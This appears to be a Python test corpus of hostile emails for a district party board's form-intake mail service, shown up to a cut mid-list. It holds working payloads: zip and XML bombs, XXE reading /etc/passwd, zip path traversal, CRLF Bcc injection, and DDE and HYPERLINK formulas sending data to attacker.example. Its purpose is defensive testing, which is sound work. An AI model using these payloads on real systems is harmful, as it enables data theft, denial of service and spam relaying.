"""A corpus of hostile mail, built by code: what a stranger (or a broken robot) can send.

Each Case is one raw message and what the service must make of it. The groups follow
issue 11: poisoned headers (1), control characters (2), relaying (3), attribution without
the address (4), formulas (5), amplification (6), forged bounces (7), speaking for a unit
(8), and the rest (9). Positive controls (a unit's own, honest mail) sit among them, so a
fix that refuses everything fails too.

Addresses: the units' own are in CONFIG; a stranger writes from @attacker.example and
the people he wants the board to mail are @victim.example. Nothing may ever go to
@victim.example, and @attacker.example gets an answer only where a Case says so.
"""

from __future__ import annotations

import base64
import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from mail_ingest.samples import SampleEntry, mau01_docx, mau01_xlsx, mau02_docx

BOARD = "bandanvan@board.example"
AUTHSERV = "mx.board.example"  # the board's own server, as [mailbox].authserv_id names it
MUONG_SO = "danguy.muongso@example.vn"
DAO_SAN = "danguy.daosan@example.vn"
VP = "vanphong@example.vn"
LEADER = "bithu.muongso@example.vn"
REPORT_TO = "lanhdao@board.example"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

CONFIG = f"""\
timezone = "Asia/Ho_Chi_Minh"

[mailbox]
kind = "maildir"
path = "mail"
max_message_bytes = 5_000_000
authserv_id = "{AUTHSERV}"

[smtp]
kind = "file"
path = "outbox"
sender = "Ban Dân vận Huyện ủy Phong Thổ <{BOARD}>"

[storage]
path = "data"

[report]
recipients = ["{REPORT_TO}"]

[notify]
daily_cap = 100  # the cap has tests of its own; here every answer must be seen

[[units]]
id = "xa-muong-so"
name = "Đảng ủy xã Mường So"
group = "xa"
emails = ["{MUONG_SO}"]
leaders = ["{LEADER}"]

[[units]]
id = "xa-dao-san"
name = "Đảng ủy xã Dào San"
group = "xa"
emails = ["{DAO_SAN}"]
aliases = ["xa Dao San"]

[[units]]
id = "cq-vp"
name = "Chi bộ Văn phòng HĐND - UBND huyện"
group = "co-quan"
emails = ["{VP}"]

[[requirements]]
id = "dvk-2024"
title = "Đăng ký thi đua “Dân vận khéo” năm 2024"
forms = ["mau-01", "mau-02"]
before = 2024-02-01
reminders = [-3, 1]

[requirements.rules]
min_collectives = {{ xa = 2, default = 1 }}
min_individuals = {{ xa = 2, default = 1 }}
"""

UNIT_ADDRESSES = {"xa-muong-so": (MUONG_SO,), "xa-dao-san": (DAO_SAN,), "cq-vp": (VP,)}
E = SampleEntry
ENTRIES = (
    E("Hợp tác xã chè Shan tuyết", "tap-the", "kinh-te", "huyen", "Chè hữu cơ"),
    E("Chi hội Phụ nữ bản Nậm Củm", "tap-the", "van-hoa-xa-hoi", "xa", "Nhà sạch, vườn đẹp"),
    E("Lò Văn Thắng", "ca-nhan", "xay-dung-dang", "xa", "Hiến đất làm đường"),
    E("Tao Thị Xuân", "ca-nhan", "quoc-phong-an-ninh", "xa", "Tổ tự quản an ninh"),
)


@dataclass(frozen=True)
class Case:
    """One hostile (or control) message and the outcome it must get."""

    name: str
    group: int
    raw: Callable[[str], bytes]  # given its Message-ID
    outcome: tuple[str, ...]  # any of these
    unit: str | None = None  # the unit it must be recorded for (None: none)
    not_by_address: bool = False  # its evidence must not be "address"
    error: str = ""  # a word the recorded error must contain
    acks: tuple[str, ...] | None = None  # exactly these get an acknowledgement (None: any)
    review_reason: bool = False  # held with a reason for the board
    forms: tuple[str, ...] | None = None  # the forms read from it (None: not checked)
    extra: dict[str, object] = field(default_factory=dict)


# --- building raw mail -------------------------------------------------------------------


def headers(mid: str, sender: str, subject: str, *more: tuple[str, str]) -> list[tuple[str, str]]:
    return [
        ("From", sender),
        ("To", BOARD),
        ("Subject", subject),
        ("Date", "Sat, 20 Jan 2024 08:00:00 +0700"),
        ("Message-ID", mid),
        *more,
    ]


def raw_mail(
    fields: Sequence[tuple[str, str | bytes]],
    body: bytes = b"Kinh gui Ban Dan van Huyen uy.\r\n",
    files: Sequence[tuple[str, str, bytes]] = (),
) -> bytes:
    """A message written byte by byte: `email` refuses to build most of what strangers send."""
    head = b"".join(
        name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()) + b"\r\n"
        for name, value in fields
    )
    if not files:
        return head + b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body
    boundary = b"=_hostile_boundary_7d1f"
    out = [head, b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="', boundary]
    out += [b'"\r\n\r\n--', boundary, b"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n", body]
    for filename, ctype, data in files:
        out += [b"\r\n--", boundary, b"\r\nContent-Type: ", ctype.encode()]
        out += [b"\r\nContent-Disposition: attachment; filename*=utf-8''"]
        out += [_pct(filename), b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"]
        out += [base64.encodebytes(data).replace(b"\n", b"\r\n")]
    out += [b"\r\n--", boundary, b"--\r\n"]
    return b"".join(out)


def _pct(name: str) -> bytes:
    return "".join(
        c
        if c.isascii() and (c.isalnum() or c in "._-")
        else "".join(f"%{b:02X}" for b in c.encode())
        for c in name
    ).encode()


def encoded_words(text: str, *, b: bool = False) -> str:
    """RFC 2047 words of at most 20 characters each, as long subjects come from clients."""
    chunks = [text[i : i + 20] for i in range(0, len(text), 20)]
    if b:
        return " ".join(f"=?utf-8?b?{base64.b64encode(c.encode()).decode()}?=" for c in chunks)
    return " ".join(
        "=?utf-8?q?"
        + "".join(
            ch if ch.isascii() and ch.isalnum() else "".join(f"={x:02X}" for x in ch.encode())
            for ch in c
        )
        + "?="
        for c in chunks
    )


def forms(unit_name: str, entries: Sequence[SampleEntry] = ENTRIES) -> list[tuple[str, str, bytes]]:
    return [
        ("Mau 01.xlsx", XLSX, mau01_xlsx(unit_name, entries)),
        ("Mau 02.docx", DOCX, mau02_docx(unit_name, ["Chè hữu cơ", "Nhà sạch, vườn đẹp"])),
    ]


MS_FORMS = forms("Đảng ủy xã Mường So")
DS_FORMS = forms("Đảng ủy xã Dào San")
SUBJECT = "Gửi hồ sơ đăng ký Dân vận khéo năm 2024"


def unit_mail(
    sender: str = MUONG_SO,
    subject: str = SUBJECT,
    files: Sequence[tuple[str, str, bytes]] | None = None,
    *more: tuple[str, str],
) -> Callable[[str], bytes]:
    files = MS_FORMS if files is None else files
    return lambda mid: raw_mail(headers(mid, sender, subject, *more), files=files)


def zipped(members: Sequence[tuple[str, bytes]], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members:
            z.writestr(name, data)
    return out.getvalue()


def with_member(package: bytes, name: str, data: bytes) -> bytes:
    """An Office package with one member replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(package))
    members = [(i.filename, source.read(i)) for i in source.infolist() if i.filename != name]
    return zipped([*members, (name, data)])


# --- hostile files -------------------------------------------------------------------------


def merged_bomb(count: int = 20_000) -> bytes:
    """A small .xlsx whose sheet claims thousands of huge, overlapping merged ranges."""
    book = MS_FORMS[0][2]
    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    merges = b"".join(b'<mergeCell ref="A1:AN5000"/>' for _ in range(count))
    sheet = sheet.replace(b"<mergeCells", b"<mergeCellsX", 1).replace(
        b"</mergeCells>", b"</mergeCellsX>"
    )
    tail = b'<mergeCells count="%d">%s</mergeCells>' % (count, merges)
    for anchor in (b"<pageMargins", b"</worksheet>"):
        if anchor in sheet:
            sheet = sheet.replace(anchor, tail + anchor, 1)
            break
    sheet = sheet.replace(b"<mergeCellsX", b"<mergeCells").replace(
        b"</mergeCellsX>", b"</mergeCells>"
    )
    return with_member(book, "xl/worksheets/sheet1.xml", sheet)


def odt_bomb(*, lie: bool = False) -> bytes:
    """An .odt of about 2 MB whose content.xml inflates to 1 GB.

    Built from one deflated megabyte repeated (a full flush makes each copy stand alone),
    so the test does not spend half a minute compressing. With `lie`, the zip headers
    announce a small size: a check of the announced sizes alone is not enough.
    """
    chunk = (b"<text:p>" + b"A" * 1000 + b"</text:p>") * 1000
    copies = 1000
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
    )
    tail = b"</office:text></office:body></office:document-content>"
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH)
    piece = squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    end = squeeze.compress(tail) + squeeze.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(chunk) * copies + len(tail)
    content = (b"content.xml", start + piece * copies + end, crc, 40_000 if lie else size, 8)
    mimetype = b"application/vnd.oasis.opendocument.text"
    members = [(b"mimetype", mimetype, zlib.crc32(mimetype), len(mimetype), 0), content]
    return _zip_raw(members)


def _zip_raw(members: Sequence[tuple[bytes, bytes, int, int, int]]) -> bytes:
    """A zip from members already compressed: (name, data, crc, announced size, method)."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size, method in members:
        offset = len(out)
        fields = struct.pack("<HHHHHIII", 20, 0, method, 0, 0x21, crc, len(data), size)
        out += b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name + data
        central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        central += (
            struct.pack("<HHHHHI", len(name), 0, 0, 0, 0, 0) + struct.pack("<I", offset) + name
        )
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


def big_document_xml() -> bytes:
    """A .docx within the zip limits whose document.xml is 90 MB of paragraphs."""
    package = MS_FORMS[1][2] if MS_FORMS[1][0].endswith(".docx") else mau02_docx("x", ["y"])
    body = b"<w:p><w:r><w:t>" + b"Lorem ipsum " * 8 + b"</w:t></w:r></w:p>"
    xml = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>" + body * 800_000 + b"</w:body></w:document>"
    )
    return with_member(package, "word/document.xml", xml)


def billion_laughs() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;">' % (i, *([i - 1] * 10))
        for i in range(1, 10)
    )
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b"]>"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_member(MS_FORMS[1][2], "word/document.xml", xml)


def xxe() -> bytes:
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return with_member(MS_FORMS[1][2], "word/document.xml", xml)


def huge_shared_strings() -> bytes:
    strings = b"".join(b"<si><t>%d Chi hoi phu nu ban</t></si>" % i for i in range(700_000))
    xml = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="700000" uniqueCount="700000">' + strings + b"</sst>"
    )
    return with_member(MS_FORMS[0][2], "xl/sharedStrings.xml", xml)


def claimed_dimension() -> bytes:
    book = MS_FORMS[0][2]
    sheet = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml")
    start = sheet.find(b"<dimension")
    if start >= 0:
        end = sheet.find(b"/>", start) + 2
        sheet = sheet[:start] + b'<dimension ref="A1:XFD1048576"/>' + sheet[end:]
    return with_member(book, "xl/worksheets/sheet1.xml", sheet)


def nested_zip_bomb(depth: int = 6) -> bytes:
    data = zipped([("bomb.txt", b"\0" * 50_000_000)])
    for level in range(depth):
        data = zipped([(f"layer{level}-{i}.zip", data) for i in range(4)])
    return data


def rtf(text: str) -> bytes:
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\f0 " + text.encode() + b"\\par}"
    )


def ole_garbage() -> bytes:
    rng = random.Random(11)
    return bytes.fromhex("D0CF11E0A1B11AE1") + bytes(rng.randrange(256) for _ in range(40_000))


def encrypted_zip_member() -> bytes:
    data = bytearray(zipped([("Mau 01.xlsx", MS_FORMS[0][2])]))
    # Set the "encrypted" flag in the local header and the central directory.
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sig)
        data[at + offset] |= 1
    return bytes(data)


def dsn(
    mid: str, failed: str, about: str | None, sender: str = "MAILER-DAEMON@attacker.example"
) -> bytes:
    """A delivery report in the RFC 3464 shape Postfix writes, about `about` (a Message-ID)."""
    returned = (
        f"From: {BOARD}\r\nTo: {failed}\r\nSubject: Nhac viec\r\n"
        + (f"Message-ID: {about}\r\n" if about else "")
        + "\r\n"
    ).encode()
    fields = headers(mid, sender, "Undelivered Mail Returned to Sender")
    head = b"".join(f"{n}: {v}\r\n".encode() for n, v in fields)
    b = b"=_dsn_boundary"
    return (
        head + b"MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status;"
        b' boundary="' + b + b'"\r\n\r\n--' + b + b"\r\nContent-Type: text/plain\r\n\r\n"
        b"Your message could not be delivered.\r\n--" + b + b"\r\n"
        b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.attacker.example\r\n"
        b"\r\nFinal-Recipient: rfc822; " + failed.encode() + b"\r\nAction: failed\r\n"
        b"Status: 5.1.1\r\n\r\n--"
        + b
        + b"\r\nContent-Type: text/rfc822-headers\r\n\r\n"
        + returned
        + b"--"
        + b
        + b"--\r\n"
    )


def auth_results(*values: str) -> tuple[tuple[str, str], ...]:
    return tuple(("Authentication-Results", v) for v in values)


def cyrillic(text: str) -> str:
    """Latin letters swapped for their Cyrillic look-alikes."""
    return text.translate(str.maketrans("aoecpxyAOECPXHKMT", "аоесрхуАОЕСРХНКМТ"))


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def greek(text: str) -> str:
    return text.translate(str.maketrans("oOAEHIKMNTXZv", "οΟΑΕΗΙΚΜΝΤΧΖν"))


# --- the corpus ---------------------------------------------------------------------------

KB, MB = 1024, 1024 * 1024
SUB, HELD = ("submission",), ("needs-review", "unknown-sender")
HELD_OR_IGNORED = (*HELD, "ignored")
NOTHING = ()  # no acknowledgement to anyone


def _groups_1() -> list[Case]:
    poison = "Báo cáo Dân vận khéo " * (MB // 20)
    return [
        Case(
            "subject-1MB-q-words",
            1,
            unit_mail(MUONG_SO, encoded_words(poison)),
            SUB,
            "xa-muong-so",
            forms=("mau-01", "mau-02"),
        ),
        Case(
            "subject-1MB-b-words",
            1,
            unit_mail(MUONG_SO, encoded_words(poison, b=True)),
            SUB,
            "xa-muong-so",
        ),
        Case(
            "from-name-1MB",
            1,
            unit_mail(f"{encoded_words(poison[: MB // 2])} <x@attacker.example>", "Gửi hồ sơ"),
            ("submission", *HELD),  # the forms name Mường So: provisional at most
            not_by_address=True,
            acks=(MUONG_SO,),
        ),
        Case(
            "subject-5MB-raw-line",
            1,
            unit_mail(MUONG_SO, "A" * (4 * MB)),
            ("submission", "too-large", "error"),
            acks=None,
        ),
        Case(
            "100k-header-fields",
            1,
            lambda mid: raw_mail([*headers(mid, MUONG_SO, SUBJECT), *[("X-Junk", "a")] * 100_000]),
            ("submission", "ignored", "error", "unknown-sender"),
        ),
        Case(
            "filename-2231-50k-segments",
            1,
            lambda mid: _long_filename(mid),
            ("submission", "error"),
        ),
        Case(
            "content-type-10k-params",
            1,
            lambda mid: _many_params(mid),
            ("submission", "error", "ignored"),
        ),
        Case("20k-mime-parts", 1, lambda mid: _many_parts(mid, 20_000), ("submission", "error")),
        Case("multipart-depth-2000", 1, lambda mid: _deep(mid, 2000), ("submission", "error")),
        Case("rfc822-depth-200", 1, lambda mid: _deep_rfc822(mid, 200), ("submission", "error")),
        Case(
            "unclosed-boundary",
            1,
            lambda mid: (
                raw_mail(headers(mid, MUONG_SO, SUBJECT)).replace(
                    b"text/plain; charset=utf-8", b'multipart/mixed; boundary="never"'
                )
                + b"x" * MB
            ),
            ("submission", "error"),
        ),
        Case(
            "nul-and-invalid-utf8-headers",
            1,
            unit_mail(MUONG_SO, "B\x00\xff\xfeáo cáo"),
            SUB,
            "xa-muong-so",
        ),
        Case("empty-message", 1, lambda mid: b"", ("error",), error="not an email"),
        Case(
            "random-bytes",
            1,
            lambda mid: bytes(random.Random(5).randrange(256) for _ in range(4000)),
            ("error", "ignored", "unknown-sender"),
        ),
        Case(
            "headers-without-body",
            1,
            lambda mid: "\r\n".join(
                f"{n}: {v}" for n, v in headers(mid, MUONG_SO, SUBJECT)
            ).encode(),
            ("submission",),
            "xa-muong-so",
        ),
        Case(
            "unknown-charset-subject",
            1,
            unit_mail(MUONG_SO, "=?x-no-such-charset?q?B=E1o_c=E1o?="),
            SUB,
            "xa-muong-so",
        ),
    ]


def _long_filename(mid: str) -> bytes:
    params = "".join(f"; filename*{i}*=utf-8''M%E1%BA%ABu" for i in range(50_000))
    part = f"Content-Type: {XLSX}\r\nContent-Disposition: attachment{params}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    body = base64.encodebytes(MS_FORMS[0][2]).replace(b"\n", b"\r\n")
    return _multipart(headers(mid, MUONG_SO, SUBJECT), [part.encode() + body, *_form_parts()])


def _many_params(mid: str) -> bytes:
    params = "".join(f"; p{i}=v{i}" for i in range(10_000))
    fields = [(n, v) for n, v in headers(mid, MUONG_SO, SUBJECT)]
    return raw_mail(fields).replace(b"charset=utf-8", b"charset=utf-8" + params.encode())


def _form_parts() -> list[bytes]:
    return [
        f'Content-Type: {ctype}\r\nContent-Disposition: attachment; filename="{name}"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n".encode()
        + base64.encodebytes(data).replace(b"\n", b"\r\n")
        for name, ctype, data in MS_FORMS
    ]


def _multipart(
    fields: Sequence[tuple[str, str]], parts: Sequence[bytes], boundary: str = "b0"
) -> bytes:
    head = b"".join(f"{n}: {v}\r\n".encode() for n, v in fields)
    head += f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'.encode()
    sep = f"\r\n--{boundary}\r\n".encode()
    return head + sep + sep.join(parts) + f"\r\n--{boundary}--\r\n".encode()


def _many_parts(mid: str, count: int) -> bytes:
    empty = b"Content-Type: text/plain\r\n\r\nx"
    return _multipart(headers(mid, MUONG_SO, SUBJECT), [*_form_parts(), *[empty] * count])


def _deep(mid: str, depth: int) -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\nx"
    for level in range(depth):
        inner = (
            f'Content-Type: multipart/mixed; boundary="d{level}"\r\n\r\n--d{level}\r\n'.encode()
            + inner
            + f"\r\n--d{level}--".encode()
        )
    return _multipart(headers(mid, MUONG_SO, SUBJECT), [*_form_parts(), inner])


def _deep_rfc822(mid: str, depth: int) -> bytes:
    inner = raw_mail(headers("<inner@attacker.example>", "x@attacker.example", "inner"))
    for _ in range(depth):
        inner = (
            b"Content-Type: message/rfc822\r\n\r\n"
            + raw_mail(headers("<f@a.example>", "x@attacker.example", "Fwd")).split(
                b"MIME-Version"
            )[0]
            + inner
        )
    return _multipart(headers(mid, MUONG_SO, SUBJECT), [*_form_parts(), inner])


def _groups_2_to_5() -> list[Case]:
    stranger = "Người lạ <x@attacker.example>"
    victims = ", ".join(f"v{i}@victim.example" for i in range(30))
    formulas = ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"Bấm\")", "=WEBSERVICE(\"http://attacker.example\")",
                "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
    cases = [
        Case("held-subject-bel", 2, unit_mail(stranger, "Chuông\x07 báo", []), HELD, acks=NOTHING),
        Case(
            "held-subject-encoded-esc",
            2,
            unit_mail(stranger, "=?utf-8?q?=1B[2J=1B]0;pwned=07xin_ch=C3=A0o?=", []),
            HELD,
            acks=NOTHING,
        ),
        Case(
            "unit-subject-csi-c1",
            2,
            unit_mail(MUONG_SO, "=?utf-8?q?B=C3=A1o_c=C3=A1o_=C2=9B31m_x=C3=A3?="),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
        Case(
            "unit-from-name-crlf",
            2,
            unit_mail(f"=?utf-8?q?M=C6=B0=E1=BB=9Dng_So=0D=0ABcc:_v@victim.example?= <{MUONG_SO}>"),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
        Case(
            "unit-filename-bidi",
            2,
            unit_mail(
                MUONG_SO, SUBJECT, [("Mau 01\u202excod.xlsx", XLSX, MS_FORMS[0][2]), MS_FORMS[1]]
            ),
            SUB,
            "xa-muong-so",
        ),
        Case(
            "unit-subject-nul-encoded",
            2,
            unit_mail(MUONG_SO, "=?utf-8?q?a=00b=7Fc?="),
            SUB,
            "xa-muong-so",
        ),
        # 3: the board's address must not relay.
        Case(
            "name-packs-30-addresses",
            3,
            unit_mail(
                f"=?utf-8?q?{victims.replace(' ', '_').replace('@', '=40').replace(',', '=2C')}?= <x@attacker.example>",
                "Hồ sơ xã Dào San",
                DS_FORMS,
            ),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(DAO_SAN,),
        ),
        Case(
            "name-crlf-bcc",
            3,
            unit_mail(
                "=?utf-8?q?X=0D=0ABcc:_v1@victim.example?= <x@attacker.example>",
                "Hồ sơ xã Dào San",
                DS_FORMS,
            ),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(DAO_SAN,),
        ),
        Case(
            "from-two-addresses",
            3,
            unit_mail("x@attacker.example, v1@victim.example", "Hồ sơ xã Dào San", DS_FORMS),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(DAO_SAN,),
        ),
        Case(
            "from-group-syntax",
            3,
            unit_mail("undisclosed-recipients:;", "Hồ sơ xã Dào San", DS_FORMS),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(DAO_SAN,),
        ),
        Case(
            "reply-to-victim",
            3,
            unit_mail(MUONG_SO, SUBJECT, None, ("Reply-To", victims)),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
        Case(
            "sender-and-return-path-victim",
            3,
            unit_mail(
                MUONG_SO,
                SUBJECT,
                None,
                ("Sender", "v1@victim.example"),
                ("Return-Path", "<v2@victim.example>"),
            ),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
        Case(
            "non-ascii-local-part",
            3,
            lambda mid: raw_mail(
                headers(mid, "Nguyễn <ngü@attacker.example>", "Hồ sơ xã Dào San"), files=DS_FORMS
            ),
            ("submission", "needs-review"),
            not_by_address=True,
            acks=(DAO_SAN,),
        ),
        Case(
            "quoted-local-part-with-at",
            3,
            unit_mail(f'"{MUONG_SO}"@attacker.example', "Gửi hồ sơ", []),
            HELD_OR_IGNORED,
            acks=NOTHING,
        ),
        # 4: by address means the addr-spec, nothing else.
        Case(
            "encoded-word-is-the-address",
            4,
            unit_mail(f"=?utf-8?q?{MUONG_SO.replace('@', '=40')}?=", "Gửi hồ sơ", []),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "unit-address-in-encoded-name",
            4,
            unit_mail(
                f"=?utf-8?q?{MUONG_SO.replace('@', '=40')}?= <x@attacker.example>", "Gửi hồ sơ", []
            ),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "unit-address-in-quoted-name",
            4,
            unit_mail(f'"{MUONG_SO}" <x@attacker.example>', "Gửi hồ sơ", []),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "unit-address-in-comment",
            4,
            unit_mail(f"x@attacker.example ({MUONG_SO})", "Gửi hồ sơ", []),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "unit-address-as-suffix",
            4,
            unit_mail(f"{MUONG_SO}.attacker.example", "Gửi hồ sơ", []),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "two-from-headers",
            4,
            lambda mid: raw_mail(
                [("From", MUONG_SO), *headers(mid, "x@attacker.example", "Gửi hồ sơ")], files=[]
            ),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "sender-header-is-unit",
            4,
            unit_mail("x@attacker.example", "Gửi hồ sơ", [], ("Sender", MUONG_SO)),
            HELD_OR_IGNORED,
            not_by_address=True,
            acks=NOTHING,
        ),
        Case(
            "control-unit-address-in-capitals",
            4,
            unit_mail(MUONG_SO.upper(), SUBJECT, DS_FORMS[:0] + MS_FORMS),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
        Case(
            "control-unit-address-with-name",
            4,
            unit_mail(f"Đảng ủy xã Mường So <{MUONG_SO}>"),
            SUB,
            "xa-muong-so",
            acks=(MUONG_SO,),
        ),
    ]
    # 5: formulas in held subjects and in a unit's own entry names.
    for i, formula in enumerate(formulas):
        cases.append(
            Case(
                f"held-subject-formula-{i}", 5, unit_mail(stranger, formula, []), HELD, acks=NOTHING
            )
        )
    entries = [
        E(f, k.kind, k.field, k.level, f) for f, k in zip(formulas[:4], ENTRIES, strict=True)
    ]
    cases.append(
        Case(
            "entry-names-formulas-xlsx",
            5,
            unit_mail(VP, SUBJECT, forms("Chi bộ Văn phòng HĐND - UBND huyện", entries)),
            SUB,
            "cq-vp",
        )
    )
    docx_entries = [E("=1+1", "tap-the", "kinh-te", "xa", "=2*3"), *ENTRIES[2:]]
    cases.append(
        Case(
            "entry-names-formulas-docx",
            5,
            unit_mail(
                DAO_SAN,
                SUBJECT,
                [
                    ("Mau 01.docx", DOCX, mau01_docx("Đảng ủy xã Dào San", docx_entries)),
                    DS_FORMS[1],
                ],
            ),
            SUB,
            "xa-dao-san",
        )
    )
    return cases


def _group_6() -> list[Case]:
    def one(
        name: str, filename: str, ctype: str, data: bytes, outcome: tuple[str, ...] = SUB
    ) -> Case:
        files = [(filename, ctype, data), MS_FORMS[1]]
        return Case(name, 6, unit_mail(VP, SUBJECT, files), outcome, "cq-vp")

    rtfs = [(f"bao-cao-{i}.rtf", "application/rtf", rtf(f"Bao cao {i}")) for i in range(300)]
    traversal = zipped(
        [("../../../../tmp/mail-ingest-pwned.txt", b"pwned"), ("Mau 01.xlsx", MS_FORMS[0][2])]
    )
    return [
        one("xlsx-20k-merged-ranges", "Mau 01.xlsx", XLSX, merged_bomb()),
        one("odt-1GB-content", "Mau 01.odt", "application/vnd.oasis.opendocument.text", odt_bomb()),
        one(
            "odt-1GB-content-lying-sizes",
            "Mau 01 (3).odt",
            "application/vnd.oasis.opendocument.text",
            odt_bomb(lie=True),
        ),
        Case(
            "300-tiny-rtfs",
            6,
            unit_mail(VP, SUBJECT, [*MS_FORMS[:1], *rtfs, MS_FORMS[1]]),
            SUB,
            "cq-vp",
            forms=None,
        ),
        one("docx-90MB-document-xml", "Mau 02.docx", DOCX, big_document_xml()),
        one("xlsx-huge-shared-strings", "Mau 01.xlsx", XLSX, huge_shared_strings()),
        one("xlsx-claims-million-rows", "Mau 01.xlsx", XLSX, claimed_dimension()),
        one("nested-zip-bomb", "ho-so.zip", "application/zip", nested_zip_bomb()),
        one("zip-path-traversal", "ho-so.zip", "application/zip", traversal),
        one("docx-billion-laughs", "Mau 02 (1).docx", DOCX, billion_laughs()),
        one("docx-xxe", "Mau 02 (2).docx", DOCX, xxe()),
        one("encrypted-zip", "ho-so.zip", "application/zip", encrypted_zip_member()),
        one(
            "rtf-deep-nesting",
            "bao-cao.rtf",
            "application/rtf",
            b"{\\rtf1" + b"{" * 200_000 + b"}" * 200_000 + b"}",
        ),
        one(
            "xlsx-10k-sheets-claimed",
            "Mau 01 (1).xlsx",
            XLSX,
            zipped(
                [(f"xl/worksheets/sheet{i}.xml", b"<x/>") for i in range(5000)]
                + [("[Content_Types].xml", b"<Types/>")]
            ),
        ),
        one("ole-garbage-doc", "Mau 02.doc", "application/msword", ole_garbage()),
        one("zero-byte-xlsx", "Mau 01 (2).xlsx", XLSX, b""),
        one("truncated-docx", "Mau 02 (3).docx", DOCX, MS_FORMS[1][2][: len(MS_FORMS[1][2]) // 2]),
    ]


def _groups_7_to_9() -> list[Case]:
    stranger = "x@attacker.example"
    a_r = f"{AUTHSERV};"
    big_mid = "<" + "a" * 100_000 + "@example.vn>"
    same = "<same-id-and-size@example.vn>"
    return [
        # 7: a delivery report counts only about our own mail.
        Case(
            "forged-dsn-no-reference",
            7,
            lambda mid: dsn(mid, MUONG_SO, None),
            ("bounce",),
            extra={"not_failing": MUONG_SO},
        ),
        Case(
            "forged-dsn-foreign-reference",
            7,
            lambda mid: dsn(mid, DAO_SAN, "<not-ours@attacker.example>"),
            ("bounce",),
            extra={"not_failing": DAO_SAN},
        ),
        Case(
            "forged-dsn-from-unit-domain",
            7,
            lambda mid: dsn(mid, VP, "<x@board.example>", "MAILER-DAEMON@example.vn"),
            ("bounce",),
            extra={"not_failing": VP},
        ),
        Case(
